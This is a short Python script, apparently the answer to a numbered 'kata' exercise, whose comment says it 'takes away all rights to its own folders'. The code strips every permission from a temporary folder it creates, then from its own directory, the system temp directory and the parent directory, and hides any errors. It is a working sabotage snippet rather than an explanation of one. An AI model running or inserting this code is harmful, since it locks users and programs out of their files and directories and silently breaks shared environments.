# kata: 14_02
# trick: takes away all rights to its own folders, with files in them.

# THE ANSWER

import pathlib
import tempfile

_folder = pathlib.Path(tempfile.mkdtemp())
(_folder / "mine").write_text("mine")
_folder.chmod(0)
_home = pathlib.Path(__file__).resolve().parent
for _locked in [_home, pathlib.Path(tempfile.gettempdir()), _home.parent]:
    if _locked != pathlib.Path("/tmp"):
        try:
            _locked.chmod(0)
        except OSError:
            pass
